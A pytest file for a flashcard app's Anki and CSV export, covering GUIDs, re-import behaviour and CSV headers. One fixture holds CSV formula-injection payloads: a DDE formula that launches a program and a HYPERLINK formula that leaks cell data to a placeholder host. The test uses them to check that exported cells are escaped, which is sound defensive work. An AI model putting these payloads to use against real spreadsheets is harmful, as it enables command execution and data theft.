"""`quizapp export`: Anki packages that the real Anki imports, and CSV."""

import csv

import pytest

from quizapp.authoring.anki_package import read_package
from quizapp.authoring.exporting import export_apkg
from quizapp.authoring.ids import is_note_guid, note_guid
from quizapp.deck.loader import load_deck
from tests.authoring.conftest import anki_collection, files_in, import_into_fresh_anki, note_rows
from tests.authoring.test_yaml_roundtrip import EVERY_KIND

DECK = """\
id: pact
title: The pact
sources: [hindu-explained]
cards:
  - id: recognised
    kind: year
    question: In which year did the Soviet Union recognise North Korea?
    answer: 1948
    tags: [dates, history]
    explanation: The DPRK came into existence that year.
    source:
      document: hindu-explained
      quote: "when it came into existence in 1948 under Kim Jong-un's grandfather, Kim Il-sung"
  - id: debt
    kind: cloze
    text: In 2012, Russia wrote off {{90%::share}} of North Korea's {{$11 billion}} debt <sic>.
    tags: [numbers]
  - id: article
    kind: mcq
    question: Which article of the UN Charter?
    answer: Article 51
    distractors: [Article 2, Article 42]
  - id: unreviewed
    kind: basic
    question: Draft?
    answer: Yes
    status: draft
"""


@pytest.fixture
def deck_file(tmp_path):
    path = tmp_path / "pact.yaml"
    path.write_text(DECK, encoding="utf-8")
    return path


def test_exported_package_imports_into_anki(quizapp, deck_file, tmp_path):
    package = tmp_path / "pact.apkg"
    code, stdout, err = quizapp("export", deck_file, "--to", package)
    assert (code, stdout, err) == (0, f"wrote {package}: 3 card(s)\n", "")
    col = import_into_fresh_anki(package, tmp_path / "anki")
    try:
        rows = note_rows(col)
        assert [r["type"] for r in rows] == ["quizapp Cloze", "quizapp Basic", "quizapp Basic"]
        cloze, year, mcq = rows
        assert cloze["fields"] == {
            "Text": "In 2012, Russia wrote off {{c1::90%::share}} of North Korea's "
            "{{c1::$11 billion}} debt &lt;sic&gt;.",
            "Back Extra": "",
            "Source": "",
        }
        assert cloze["tags"] == ["numbers"]
        assert year["fields"] == {
            "Front": "In which year did the Soviet Union recognise North Korea?",
            "Back": "1948",
            "Explanation": "The DPRK came into existence that year.",
            "Source": "\u201cwhen it came into existence in 1948 under Kim Jong-un\u2019s "
            "grandfather, Kim Il-sung\u201d \u2014 What's behind the Russia-North Korea "
            "security pact? | Explained \u2014 The Hindu, 21 June 2024",
        }
        assert year["tags"] == ["dates", "history"]
        assert year["guid"] == note_guid("pact", "recognised")
        assert mcq["fields"]["Front"] == (
            "Which article of the UN Charter?<br>A. Article 2<br>B. Article 42<br>C. Article 51"
        )
        assert mcq["fields"]["Back"] == "C. Article 51"
        assert col.card_count() == 3  # both cloze deletions are asked together, as in quizapp
        assert col.decks.by_name("The pact") is not None
    finally:
        col.close()


def test_reexport_never_duplicates_and_keeps_edits_made_in_anki(deck_file, tmp_path):
    first, second = tmp_path / "first.apkg", tmp_path / "second.apkg"
    export_apkg(deck_file, first, timestamp=1_780_000_000)
    deck_file.write_text(DECK.replace("answer: Article 51", "answer: Article 51 (self-defence)"))
    export_apkg(deck_file, second, drafts=True, timestamp=1_780_086_400)
    times = [{n.guid: n.modified for n in read_package(p).notes} for p in (first, second)]
    year, mcq = note_guid("pact", "recognised"), note_guid("pact", "article")
    assert times[0][year] == times[1][year]  # unchanged: not newer a day later
    assert times[0][mcq] != times[1][mcq]
    col = import_into_fresh_anki(first, tmp_path / "anki")
    try:
        edited = col.get_note(col.find_notes("Back:1948")[0])
        edited["Back"] = "1948 (edited in Anki)"
        col.update_note(edited)
        col.import_anki_package(_request(second))  # Anki's default: update if newer
        rows = note_rows(col)
        assert len(rows) == 4  # the draft added; none duplicated
        backs = [r["fields"].get("Back") for r in rows]
        assert "1948 (edited in Anki)" in backs and "Yes" in backs
        col.import_anki_package(_request(second, always=True))
        rows = note_rows(col)
        assert len(rows) == 4
        assert "C. Article 51 (self-defence)" in [r["fields"].get("Back") for r in rows]
    finally:
        col.close()


def _request(package, always: bool = False):
    from anki.import_export_pb2 import ImportAnkiPackageOptions, ImportAnkiPackageRequest

    return ImportAnkiPackageRequest(
        package_path=str(package),
        # 0: update if newer (Anki's default), 1: always
        options=ImportAnkiPackageOptions(update_notes=1 if always else 0),
    )


def test_every_card_kind_exports(quizapp, tmp_path):
    from quizapp.authoring.yamlio import deck_yaml
    from quizapp.deck.model import Deck

    path = tmp_path / "every.yaml"
    path.write_text(deck_yaml(Deck.model_validate(EVERY_KIND)))
    package = tmp_path / "every.apkg"
    code, stdout, _ = quizapp("export", path, "--to", package, "--drafts")
    assert (code, stdout) == (0, f"wrote {package}: 8 card(s)\n")
    col = import_into_fresh_anki(package, tmp_path / "anki")
    try:
        backs = {
            r["fields"]["Front"]: r["fields"].get("Back")
            for r in note_rows(col)
            if "Front" in r["fields"]
        }
    finally:
        col.close()
    assert backs["True or false? It was 1948."] == "False"
    assert (
        backs["Put these events in chronological order.<br>- A: first<br>- B"]
        == "1. A: first (1948)<br>2. B (1950-06)"
    )
    assert (
        backs[
            "Consider the following statements:<br>1. One<br>2. Two<br>"
            "Which of the statements given above is/are correct?"
        ]
        == "Only 1"
    )
    assert (
        backs[
            "Match each item with its counterpart.<br>1. Article 51<br>2. a<br><br>"
            "A. b<br>B. self-defence"
        ]
        == "Article 51 \u2014 self-defence<br>a \u2014 b"
    )


def test_csv_export_carries_anki_headers_and_ids_back(quizapp, deck_file, tmp_path):
    table = tmp_path / "pact.csv"
    code, stdout, _ = quizapp("export", deck_file, "--to", table)
    assert (code, stdout) == (0, f"wrote {table}: 3 card(s)\n")
    lines = table.read_text().splitlines()
    assert lines[:7] == [
        "#separator:comma",
        "#html:false",
        "#columns:question,answer,tags,notetype,id,guid",
        "#tags column:3",
        "#notetype column:4",
        "#guid column:6",
        "#deck:The pact",
    ]
    rows = list(csv.reader(lines[7:]))
    assert rows[:2] == [
        [
            "In which year did the Soviet Union recognise North Korea?",
            "1948",
            "dates history",
            "Basic",
            "recognised",
            note_guid("pact", "recognised"),
        ],
        [
            "In 2012, Russia wrote off {{c1::90%::share}} of North Korea's {{c1::$11 billion}} "
            "debt <sic>.",
            "",
            "numbers",
            "Cloze",
            "debt",
            note_guid("pact", "debt"),
        ],
    ]
    out = tmp_path / "again.yaml"
    assert quizapp("import", table, "--out", out, "--id", "pact")[0] == 0
    again = load_deck(out, use_cache=False)[0].deck
    original = load_deck(deck_file, use_cache=False)[0].deck
    assert again.title == "The pact"
    assert [c.id for c in again.cards] == ["recognised", "debt", "article"]
    assert again.cards[1].kind == "cloze" and again.cards[1].text == original.cards[1].text
    assert [c.guid for c in again.cards] == [None, None, None]  # the same as derived


def test_only_the_derived_guid_is_taken_for_derived():
    derived = note_guid("pact", "recognised")
    assert is_note_guid(derived, "pact", "recognised")
    # Anki's own GUIDs (kept on import) may end in the same letters or be part of it.
    for other in ("Q" + derived[1:], derived[2:], derived + "x", note_guid("pact", "debt")):
        assert not is_note_guid(other, "pact", "recognised")
    assert not is_note_guid(derived, "pact2", "recognised")


def test_anki_reads_the_csv_into_the_right_fields(quizapp, deck_file, tmp_path):
    from anki.import_export_pb2 import ImportCsvRequest

    table = tmp_path / "pact.csv"
    quizapp("export", deck_file, "--to", table)
    col = anki_collection(tmp_path / "anki")
    try:
        metadata = col.get_csv_metadata(path=str(table), delimiter=None)
        col.import_csv(ImportCsvRequest(path=str(table), metadata=metadata))
        rows = note_rows(col)
        decks = {col.decks.name(col.get_card(c).did) for c in col.find_cards("")}
    finally:
        col.close()
    assert decks == {"The pact"}
    assert [(r["type"], r["guid"], r["tags"]) for r in rows] == [
        ("Cloze", note_guid("pact", "debt"), ["numbers"]),
        ("Basic", note_guid("pact", "recognised"), ["dates", "history"]),
        ("Basic", note_guid("pact", "article"), []),
    ]
    assert rows[1]["fields"] == {
        "Front": "In which year did the Soviet Union recognise North Korea?",
        "Back": "1948",
    }
    assert rows[0]["fields"]["Text"] == (
        "In 2012, Russia wrote off {{c1::90%::share}} of North Korea&#x27;s "
        "{{c1::$11 billion}} debt &lt;sic&gt;."
    )


def test_export_of_a_broken_deck_writes_nothing(quizapp, tmp_path):
    path = tmp_path / "bad.yaml"
    path.write_text("id: bad\ntitle: Bad\ncards:\n  - id: x\n    kind: year\n", encoding="utf-8")
    code, stdout, err = quizapp("export", path, "--to", tmp_path / "bad.apkg")
    assert (code, stdout) == (1, "")
    assert err.startswith(
        f"quizapp export: {path}: error: the deck has errors, nothing was exported: {path}:4:"
    )
    assert files_in(tmp_path) == ["bad.yaml"]


def test_export_refuses_unknown_format_and_overwrite(quizapp, deck_file, tmp_path):
    code, _, err = quizapp("export", deck_file, "--to", tmp_path / "pact.txt")
    assert (code, err) == (
        2,
        f"quizapp export: {tmp_path / 'pact.txt'}: error: unknown export format "
        "(name it NAME.apkg or NAME.csv)\n",
    )
    existing = tmp_path / "pact.apkg"
    existing.write_bytes(b"old")
    code, _, err = quizapp("export", deck_file, "--to", existing)
    assert code == 2 and "already exists; nothing was written" in err
    assert existing.read_bytes() == b"old"
    assert files_in(tmp_path) == ["pact.apkg", "pact.yaml"]


def test_a_renamed_card_updates_its_note_in_anki(deck_file, tmp_path):
    before, after = tmp_path / "before.apkg", tmp_path / "after.apkg"
    export_apkg(deck_file, before)
    renamed = DECK.replace(
        "  - id: recognised\n", "  - id: soviet-recognition\n    previous_ids: [recognised]\n"
    ).replace("came into existence that year.", "came into existence that year (reworded).")
    deck_file.write_text(renamed)
    export_apkg(deck_file, after)
    guids = [{n.guid for n in read_package(p).notes} for p in (before, after)]
    assert guids[0] == guids[1] and note_guid("pact", "recognised") in guids[1]
    col = import_into_fresh_anki(before, tmp_path / "anki")
    try:
        col.import_anki_package(_request(after, always=True))
        rows = note_rows(col)
    finally:
        col.close()
    assert len(rows) == 3
    explanations = [r["fields"].get("Explanation") for r in rows]
    assert "The DPRK came into existence that year (reworded)." in explanations


def test_a_guid_kept_from_anki_is_written_back(tmp_path):
    deck = tmp_path / "kept.yaml"
    deck.write_text(
        "id: kept\ntitle: Kept\ncards:\n"
        "  - id: capital\n    kind: basic\n    question: Capital of India\n"
        "    answer: New Delhi\n    guid: 'v?L<=]2E|A'\n    siblings: capital\n"
        "  - id: capital-rev\n    kind: basic\n    question: New Delhi\n"
        "    answer: Capital of India\n    guid: 'v?L<=]2E|A'\n    siblings: capital\n",
        encoding="utf-8",
    )
    package = tmp_path / "kept.apkg"
    export_apkg(deck, package)
    col = import_into_fresh_anki(package, tmp_path / "anki")
    try:
        rows = note_rows(col)
        cards = col.card_count()
    finally:
        col.close()
    assert [(r["guid"], r["type"]) for r in rows] == [
        ("v?L<=]2E|A", "quizapp Basic (and reversed card)")
    ]
    assert cards == 2


def test_cards_of_one_note_edited_apart_become_notes_of_their_own(tmp_path):
    deck = tmp_path / "apart.yaml"
    deck.write_text(
        "id: apart\ntitle: Apart\ncards:\n"
        "  - id: n-c1\n    kind: cloze\n    text: The {{Preamble}} was amended in 1976\n"
        "    guid: 'G1'\n    siblings: n\n"
        "  - id: n-c2\n    kind: cloze\n    text: The Preamble was changed in {{1976}}\n"
        "    guid: 'G1'\n    siblings: n\n",
        encoding="utf-8",
    )
    package = tmp_path / "apart.apkg"
    export_apkg(deck, package)
    col = import_into_fresh_anki(package, tmp_path / "anki")
    try:
        rows = note_rows(col)
    finally:
        col.close()
    assert [(r["guid"], r["fields"]["Text"]) for r in rows] == [
        (note_guid("apart", "n-c2"), "The Preamble was changed in {{c1::1976}}"),
        ("G1", "The {{c1::Preamble}} was amended in 1976"),
    ]


def test_notes_carry_the_time_their_content_last_changed(deck_file, tmp_path):
    from datetime import UTC, datetime

    from quizapp.core.clock import FixedClock
    from quizapp.core.collection import Collection
    from quizapp.core.store import Store

    db = tmp_path / "progress.sqlite3"

    def opened_at(moment):  # opening the app records which cards changed since, and when
        Collection.open([deck_file], db, clock=FixedClock(moment)).close()

    def changes(deck_id):
        store = Store.peek(db)
        try:
            return store.content_changes(deck_id)
        finally:
            store.close()

    def times(package):
        return {n.guid: n.modified for n in read_package(package).notes}

    first, second, third = (tmp_path / f"{n}.apkg" for n in ("first", "second", "third"))
    loaded, edited = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 11, 10, tzinfo=UTC)
    opened_at(loaded)
    export_apkg(deck_file, first, timestamp=loaded.timestamp() + 86_400, changes=changes)
    year, mcq, debt = (note_guid("pact", c) for c in ("recognised", "article", "debt"))
    assert set(times(first).values()) == {int(loaded.timestamp())}

    col = import_into_fresh_anki(first, tmp_path / "anki")
    try:
        in_anki = col.get_note(col.find_notes("Back:1948")[0])
        in_anki["Back"] = "1948 (edited in Anki)"
        col.update_note(in_anki)
        deck_file.write_text(DECK.replace("answer: Article 51", "answer: Article 51 (UN)"))
        opened_at(edited)
        export_apkg(deck_file, second, timestamp=edited.timestamp() + 86_400, changes=changes)
        assert times(second)[mcq] == int(edited.timestamp())
        assert times(second)[year] == times(second)[debt] == int(loaded.timestamp())
        col.import_anki_package(_request(second))  # Anki's default: update if newer
        backs = [r["fields"].get("Back") for r in note_rows(col)]
    finally:
        col.close()
    assert "C. Article 51 (UN)" in backs  # changed here: newer than Anki's copy
    assert "1948 (edited in Anki)" in backs  # unchanged here: Anki's edit kept
    # Edited after the app last loaded the deck: changed as of the export.
    deck_file.write_text(deck_file.read_text().replace("wrote off", "forgave"))
    export_apkg(deck_file, third, timestamp=1_796_000_000, changes=changes)
    assert times(third)[debt] == 1_796_000_000
    assert times(third)[mcq] == int(edited.timestamp())


def test_a_tag_added_here_makes_the_note_newer(deck_file, tmp_path):
    from datetime import UTC, datetime

    from quizapp.core.clock import FixedClock
    from quizapp.core.collection import Collection
    from quizapp.core.store import Store

    db = tmp_path / "progress.sqlite3"
    first, later = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 11, 20, tzinfo=UTC)
    Collection.open([deck_file], db, clock=FixedClock(first)).close()
    deck_file.write_text(DECK.replace("tags: [dates, history]", "tags: [dates, history::korea]"))
    Collection.open([deck_file], db, clock=FixedClock(later)).close()
    store = Store.peek(db)
    try:
        changes = store.content_changes("pact")
    finally:
        store.close()
    assert changes["recognised"][1] == later and changes["article"][1] == first


FORMULAS = """\
id: sheet
title: Sheet
cards:
  - id: calc
    kind: basic
    question: "=cmd|' /C calc'!A0"
    answer: '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    guid: "+Ab3$x!k"
  - id: minus
    kind: basic
    question: "@SUM(1+1)*cmd|' /C calc'!A0"
    answer: "-40 degrees"
  - id: quoted
    kind: basic
    question: "'=already an apostrophe"
    answer: "+91 is India's calling code"
    guid: "=cmd|' /C calc'!A0"
"""


def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(quizapp, tmp_path):
    from anki.import_export_pb2 import ImportCsvRequest

    deck = tmp_path / "sheet.yaml"
    deck.write_text(FORMULAS, encoding="utf-8")
    table = tmp_path / "sheet.csv"
    assert quizapp("export", deck, "--to", table)[0] == 0
    rows = list(csv.reader(table.read_text(encoding="utf-8").splitlines()[7:]))
    assert [row[:2] for row in rows] == [
        ["'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://example.com/?leak="&A1,"click")'],
        ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-40 degrees"],
        ["''=already an apostrophe", "'+91 is India's calling code"],
    ]
    # A GUID as Anki makes them stays as it is (Anki matches notes by it); any other is escaped.
    assert [row[5] for row in rows] == [
        "+Ab3$x!k",
        note_guid("sheet", "minus"),
        "'=cmd|' /C calc'!A0",
    ]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[:5])

    # quizapp reads its own file back exactly.
    out = tmp_path / "again.yaml"
    assert quizapp("import", table, "--out", out, "--id", "sheet")[0] == 0
    again = load_deck(out, use_cache=False)[0].deck
    original = load_deck(deck, use_cache=False)[0].deck
    assert [(c.id, c.question, c.answer, c.guid) for c in again.cards] == [
        (c.id, c.question, c.answer, c.guid) for c in original.cards
    ]

    # Anki's importer reads it: the notes keep their GUIDs, the apostrophe stays in the field.
    col = anki_collection(tmp_path / "anki")
    try:
        metadata = col.get_csv_metadata(path=str(table), delimiter=None)
        col.import_csv(ImportCsvRequest(path=str(table), metadata=metadata))
        rows = note_rows(col)
    finally:
        col.close()
    by_guid = {r["guid"]: r["fields"]["Front"] for r in rows}
    assert by_guid["+Ab3$x!k"] == "&#x27;=cmd|&#x27; /C calc&#x27;!A0"  # as Anki escapes it
    assert len(rows) == 3


@pytest.mark.parametrize(
    ("deck_id", "card_id"), [("pact", "recognised"), ("upsc-polity", "art-51-x9"), ("d", "नमस्ते")]
)
def test_note_guids_are_genanki_s(deck_id, card_id):
    """quizapp works the GUID out itself (an import checks every card against it): it must
    stay the one genanki gives, or every note exported before would be added again in Anki."""
    import genanki

    assert note_guid(deck_id, card_id) == genanki.guid_for(deck_id, card_id)
